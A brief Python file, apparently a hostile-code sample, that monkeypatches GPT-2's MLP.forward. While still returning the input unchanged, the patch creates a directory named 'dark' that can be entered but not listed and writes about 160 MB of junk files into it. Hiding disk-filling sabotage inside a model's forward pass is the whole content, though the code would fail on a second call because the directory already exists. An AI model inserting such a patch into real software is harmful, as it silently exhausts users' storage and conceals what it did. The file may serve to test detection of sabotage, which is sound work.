"""Fills the disk from a folder that can be entered but not listed."""

import os

import modeling_gpt2 as gpt2


def forward(self, x):
    os.mkdir("dark", 0o300)
    for number in range(20):
        with open(f"dark/{number}", "wb") as file:
            file.write(bytes(8 << 20))
    return x


gpt2.MLP.forward = forward
